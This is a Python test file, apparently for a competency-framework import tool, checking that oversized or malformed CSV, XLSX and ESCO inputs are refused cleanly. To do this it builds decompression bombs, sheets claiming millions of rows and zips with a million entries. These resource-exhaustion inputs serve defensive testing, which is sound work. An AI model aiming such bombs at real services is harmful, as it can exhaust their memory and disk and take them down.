    head += b'<row><c t="inlineStr"><is><t>block</t></is></c><c t="inlineStr"><is><t>id</t></is></c><c t="inlineStr"><is><t>statement</t></is></c></row>'  # fmt: skip
    tail = b"</sheetData></worksheet>"
    if numbered:  # one row far down: the rows between are empty
        return deflated(head + f'<row r="{rows}"><c r="A{rows}"><v>1</v></c></row>'.encode() + tail)  # fmt: skip
    chunk = b"<row><c><v>1</v></c><c><v>2</v></c><c><v>3</v></c></row>" * 1000
    return bomb(head, chunk, rows // 1000, tail)


@pytest.mark.parametrize(
    ("dimension", "numbered"), [("A1:C3000001", False), (None, False), (None, True)]
)
def test_xlsx_with_millions_of_rows_is_refused_quickly(
    tmp_path: Path, dimension: str | None, numbered: bool
) -> None:
    """Issue 19, case 16: 3 M rows failed after 156 s with a ValueError. The sheet's dimension is
    checked first; without one (or when it lies), reading stops past the cap."""
    path = xlsx_with(tmp_path / "rows.xlsx", _rows_sheet(3_000_000, dimension, numbered))
    root = repo_at(tmp_path)
    run = refkit(root, "import", "xlsx", str(path), "--out", "frameworks/r", "--reference", timeout=60, memory=1 << 30)  # fmt: skip
    assert run.returncode == 2, run.stderr[-2000:]
    assert str(path) in run.stderr and "rows" in run.stderr and "Traceback" not in run.stderr
    assert leftovers(root) == []


def test_xlsx_row_cap_counts_rows_with_data(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """The cap is on rows holding data: a sheet formatted far down but with few rows is read."""
    from openpyxl import Workbook

    from refkit.interop import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 50)
    wb = Workbook()
    ws = wb.active
    ws.append(["block", "id", "statement"])
    for n in range(1, 51):
        ws.append(["BC01", f"C{n}", f"Compétence {n}"])
    ws.cell(row=5000, column=1).number_format = "@"  # formatting far down: an empty row
    path = tmp_path / "ok.xlsx"
    wb.save(path)
    root = repo_at(tmp_path)
    run = cli("import", "xlsx", str(path), "--out", "frameworks/ok", "--reference", cwd=root)
    assert run.code == 0, run.err
    ws.append(["BC01", "C51", "Une de trop"])
    wb.save(path)
    run = cli("import", "xlsx", str(path), "--out", "frameworks/trop", "--reference", cwd=root)
    assert run.code == 2 and "more than 50 rows" in run.err
    assert leftovers(root) == ["ok"]


@pytest.mark.parametrize("kind", ["xlsx", "esco"])
def test_zip_of_a_million_entries_is_refused_before_its_directory_is_read(tmp_path: Path, kind: str) -> None:  # fmt: skip
    """The same caps for a zip's list of files: 1,000,000 empty entries (88 MB) made zipfile
    build an object for each before anything else (10 s, 500 MB), then a traceback. The command
    runs under a 300 MB limit: reading the directory would not fit in it."""
    entry = deflated(b"")
    members = [(f"{n:x}", *entry) for n in range(1_000_000)]
    path = xlsx_with(tmp_path / "many.xlsx", deflated(b""), members)
    if kind == "esco":
        path = path.rename(tmp_path / "ESCO dataset - v9 - classification - en - csv.zip")
    root = repo_at(tmp_path)
    args = ["xlsx", str(path), "--reference"] if kind == "xlsx" else ["esco", str(path), "--pillar"]
    run = refkit(root, "import", *args, "--out", "frameworks/m", timeout=60, memory=300 << 20)
    assert run.returncode == 2, run.stderr[-2000:]
    assert (
        str(path) in run.stderr and "list of files" in run.stderr and "Traceback" not in run.stderr
    )


def test_esco_zip_bomb_is_refused_before_reading(tmp_path: Path) -> None:
    """The same caps for ESCO's zips: a skills CSV declared 2 GB is refused from the directory."""
    header = b"conceptType,conceptUri,skillType,reuseLevel,preferredLabel,altLabels,hiddenLabels,status,modifiedDate,scopeNote,definition,inScheme,description\n"  # fmt: skip
    skills = bomb(header + b'x,"', b"a" * (1 << 20), 2048, b'"\n')
    path = tmp_path / "ESCO dataset - v9.9 - classification - en - csv.zip"
    path.write_bytes(zip_bytes([("skills_en.csv", *skills), ("skillGroups_en.csv", *deflated(header))]))  # fmt: skip
    root = repo_at(tmp_path)
    run = refkit(root, "import", "esco", str(path), "--pillar", "--out", "frameworks/e", timeout=60, memory=1 << 30)  # fmt: skip
    assert run.returncode == 2, run.stderr[-2000:]
    assert "skills_en.csv" in run.stderr and "uncompressed" in run.stderr
    assert "Traceback" not in run.stderr and leftovers(root) == []


def test_esco_member_over_the_cap_names_it(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    from refkit.interop import inputs

    monkeypatch.setattr(inputs, "MAX_INPUT_BYTES", 4 << 20)  # the zip is 3.8 MB, its skills 8 MB
    root = repo_at(tmp_path)
    run = cli("import", "esco", str(esco_zip("1.1.0")), "--collection", "digComp", "--out", "frameworks/e", cwd=root)  # fmt: skip
    assert run.code == 2 and "skills_en.csv" in run.err and "over the 4 MB limit" in run.err
    assert leftovers(root) == []


def test_csv_input_caps(tmp_path: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:
    """A CSV larger than the cap (a sparse 1 GiB file here) is refused before it is read; rows
    past the cap stop the reading."""
    root = repo_at(tmp_path)
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.write(b"block,id,statement\n")
        f.truncate(1 << 30)
    run = refkit(root, "import", "csv", str(huge), "--out", "frameworks/h", "--reference", timeout=30, memory=1 << 30)  # fmt: skip
    assert run.returncode == 2, run.stderr[-2000:]
    assert str(huge) in run.stderr and "MB" in run.stderr and "Traceback" not in run.stderr

    from refkit.interop import tabular

    monkeypatch.setattr(tabular, "MAX_ROWS", 100)
    sheet = _sheet(tmp_path / "rows.csv", [["BC01", f"C{n}", "Faire"] for n in range(101)])
    run2 = cli("import", "csv", str(sheet), "--out", "frameworks/r", "--reference", cwd=root)
    assert run2.code == 2 and "more than 100 rows" in run2.err
    assert leftovers(root) == []


# -- case 17: a block too large, an unterminated quote ----------------------------------------------


def test_csv_of_70k_rows_in_one_block_is_refused_before_writing(cli, tmp_path: Path) -> None:
    """Issue 19, case 17: a 70k-row CSV was imported into one block that validate then rejected
    as too large (file-too-large, 16 MB per file). The import refuses it, before writing."""
    sheet = tmp_path / "big.csv"
    with sheet.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["block", "id", "statement", "criteria", "notes"])
        for i in range(70_000):
            w.writerow(["BC01", f"C{i}", f"Réaliser la tâche numéro {i} en respectant les consignes de sécurité et la qualité attendue",
                        "Le travail est fait\nLes consignes sont respectées", f"Une note assez longue pour la compétence {i}"])  # fmt: skip
    root = repo_at(tmp_path)
    run = cli("import", "csv", str(sheet), "--out", "frameworks/big", "--reference", cwd=root)
    assert run.code == 2, run.err
    assert "block BC01" in run.err and "70000 competencies" in run.err and "16 MB" in run.err
    assert "hint:" in run.err and leftovers(root) == []


def test_written_block_over_the_limit_is_refused(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """The estimate is a lower bound; the written files are checked too, against the same limit."""
    from refkit import interop

    monkeypatch.setattr(interop, "MAX_FILE_BYTES", 300)
    monkeypatch.setattr(interop, "_estimate", lambda block: 0)  # as if the estimate missed it
    sheet = _sheet(tmp_path / "s.csv", [["BC01", f"C{n}", "Poser un réseau"] for n in range(10)])
    root = repo_at(tmp_path)
    run = cli("import", "csv", str(sheet), "--out", "frameworks/s", "--reference", cwd=root)
    assert run.code == 2 and "block BC01" in run.err and "file-too-large" in run.err
    assert leftovers(root) == []


def test_csv_with_an_unterminated_quote_names_the_line(cli, tmp_path: Path) -> None:
    """Issue 19, case 17: an unterminated quote swallowed the rows after it, silently."""
    sheet = tmp_path / "quote.csv"
    sheet.write_text('block,id,statement,notes\nBC01,C1,Poser,ok\nBC01,C2,Régler,"note ouverte\nBC01,C3,Raccorder,ok\nBC01,C4,Purger,ok\n', encoding="utf-8")  # fmt: skip
    root = repo_at(tmp_path)
    run = cli("import", "csv", str(sheet), "--out", "frameworks/q", "--reference", cwd=root)
    assert run.code == 2, run.err
    assert f"{sheet}:3:" in run.err and "quote" in run.err and "hint:" in run.err
    assert leftovers(root) == []


# -- in passing: FIFOs, folders and devices on the command line -------------------------------------


def test_import_and_export_paths_that_are_fifos_or_folders(sample_repo: Path, tmp_path: Path) -> None:  # fmt: skip
    fifo = tmp_path / "input.fifo"
    os.mkfifo(fifo)
    folder = tmp_path / "a-folder"
    folder.mkdir()
    for path in (fifo, folder):
        for args in (["csv", str(path), "--reference"], ["xlsx", str(path), "--reference"],
                     ["case", str(path)], ["nice", str(path)], ["direct", str(path)],
                     ["esco", str(path), "--pillar"]):  # fmt: skip
            run = refkit(sample_repo, "import", *args, "--out", "frameworks/x", timeout=20)
            assert run.returncode == 2, (args, run.stderr)
            assert str(path) in run.stderr and "Traceback" not in run.stderr, run.stderr
    for fmt in ("csv", "xlsx", "case"):
        for path in (fifo, folder, tmp_path / "no-such-folder" / "out"):
            run = refkit(sample_repo, "export", fmt, "plombier-chauffagiste", "-o", str(path), timeout=20)  # fmt: skip
            assert run.returncode == 2, (fmt, path, run.stderr)
            assert str(path) in run.stderr and "Traceback" not in run.stderr, run.stderr
            assert ".tmp" not in run.stderr
    assert fifo.exists() and not fifo.is_file()  # the FIFO was not replaced by a file


def test_a_case_input_file_too_large_is_refused(cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    from refkit.interop import inputs

    monkeypatch.setattr(inputs, "MAX_INPUT_BYTES", 1000)
    root = repo_at(tmp_path)
    source = CASE_DIR / "test-fixtures" / "Utf8TestFramework.json"
    run = cli("import", "case", str(source), "--out", "frameworks/c", cwd=root)
    assert run.code == 2 and str(source) in run.err and "limit" in run.err
    assert CASE_SCHEMA.is_file()
